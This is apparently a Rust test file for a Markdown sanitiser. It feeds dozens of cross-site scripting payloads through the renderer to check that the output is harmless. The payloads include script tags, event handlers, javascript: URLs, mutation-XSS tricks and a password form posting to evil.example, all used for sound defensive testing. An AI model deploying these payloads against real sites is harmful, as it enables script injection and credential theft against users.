//! Texts that attack the reader.

use std::sync::LazyLock;

use regex::Regex;

use super::*;

/// Checks every element and attribute outside of text, roughly as a browser would parse them.
#[track_caller]
fn is_harmless(markdown: &str) {
    static TAG: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r#"<\s*([a-zA-Z!?/][^>\s/]*)((?:[^<>"']|"[^"]*"|'[^']*')*)>"#).unwrap());
    static QUOTED: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#""[^"]*""#).unwrap());
    static ACTIVE: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"\bon\w+\s*=|\bstyle\s*=|srcdoc|formaction").unwrap());
    static ADDRESS: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"(?:href|src)="([^"]*)""#).unwrap());
    static ID: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"\s(?:id|name)="([^"]*)""#).unwrap());
    let html = html(markdown);
    for found in TAG.captures_iter(&html) {
        let name = found[1].trim_start_matches('/').to_ascii_lowercase();
        assert!(raw::allowed(&name) || formulas::is_element(&name), "<{name}> in {html}");
        let attributes = found[2].to_ascii_lowercase();
        assert!(!ACTIVE.is_match(&QUOTED.replace_all(&attributes, "\"\"")), "{html}");
        for value in ADDRESS.captures_iter(&attributes) {
            let outside = ["http://", "https://", "mailto:", "#user-content-"];
            let inside = ["trace.log", "screen%20shot.png", "../export-times-out-k7f3qa/"];
            let value = &value[1];
            assert!(
                outside.iter().any(|start| value.starts_with(start)) || inside.contains(&value),
                "{value} in {html}"
            );
        }
        for id in ID.captures_iter(&attributes) {
            assert!(id[1].starts_with("user-content-"), "{html}");
        }
        if name == "img" {
            assert!(
                attributes.contains("src=\"screen%20shot.png\"") || !attributes.contains("src="),
                "{html}"
            );
        }
    }
}

#[test]
fn hostile_text_is_harmless() {
    for text in [
        "<script>alert(1)</script>",
        "x <script src=//evil.example></script> y",
        "<img src=x onerror=alert(1)>",
        "<img src=\"screen%20shot.png\" onerror=alert(1)>",
        "<img/src=\"screen%20shot.png\"/onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](&#1;javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        "<javascript:alert(1)>",
        "<data:text/html,hi>",
        "[x]: javascript:alert(1)\n\n[x]",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/x)",
        "[x](\\\\evil.example\\x)",
        "[x](https:/evil.example)",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href=\"#answer\" onclick=alert(1)>x</a>",
        "<a href=/admin>x</a>",
        "<a href=\"https://ok.example\" style=\"position:fixed;inset:0\" target=_top>x</a>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<style>body{display:none}</style>",
        "<style>\n\n<img src=x onerror=alert(1)>\n\n</style>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=\"https://evil.example\"><input name=password></form>",
        "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<details ontoggle=alert(1) open>x</details>",
        "<div class=\"banner\" id=\"answer\">x</div>",
        "$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$ \\(</math><script>alert(1)</script>=\\)",
        "$$\\begin{array}{c\" onclick=\"alert(1)} a \\end{array}$$ $\\color{red\" onclick=alert(1)} x$ $<img src=x onerror=alert(1)>$",
        "```math\n\\text{</annotation><img src=x onerror=alert(1)>}\n```",
        "!!! note \"<script>alert(1)</script>\"\n    <img src=x onerror=alert(1)>",
        ":::\"><script>alert(1)</script>\nx\n:::",
        "[TOC]\n# <img src=x onerror=alert(1)>\n# \"><script>alert(1)</script>",
        "www.\"onmouseover=\"alert(1)",
        "<a name=location></a><a id=\"x\" onclick=alert(1)>y</a><img name=cookie id=body src=x>",
        "<p title=\" id='answer' onclick=alert(1) \" id=answer>x</p>",
        "<p/id=answer/onclick=alert(1)>x</p>",
        "<a name='x\" onmouseover=\"alert(1)'>y</a>",
        "[x](#a\"onmouseover=alert(1))",
        "</main></body></html><script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- > --><script>alert(1)</script>",
        "`<script>`<script>alert(1)</script>",
        "<a title='\"><script>alert(1)</script>' href=https://ok.example>x</a>",
        "[a](https://ok.example \"\\\"><script>alert(1)</script>\")",
        "![\"><script>alert(1)</script>](screen%20shot.png)",
        "# <script>alert(1)</script>",
        "# x\" onmouseover=\"alert(1)",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "[^\"><script>alert(1)</script>]: x",
        "https://ok.example/\"onmouseover=\"alert(1)",
        "https://ok.example/'><script>alert(1)</script>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)>",
        "<a href=\"screen%20shot.png\"><img src=\"https://evil.example/x.png\"></a>",
        "<x-y onclick=alert(1)>z</x-y>",
        "<?xml version=\"1.0\"?><!DOCTYPE html><![CDATA[<script>alert(1)</script>]]>",
    ] {
        is_harmless(text);
        // The same text inside a list, a quote and a table cell, and next to HTML that the sanitiser has to clean.
        is_harmless(&format!("- {text}\n\n> {text}"));
        is_harmless(&format!("<div>\n\n{text}\n\n</div>"));
        is_harmless(&format!("<b>{text}</b>"));
    }
}

#[test]
fn a_flood_of_raw_tags_is_shown_as_text() {
    let flood = "<b><i>".repeat(5_000);
    let html = html(&flood);
    assert!(html.contains("&lt;b&gt;") && !html.contains("<b>"));
}
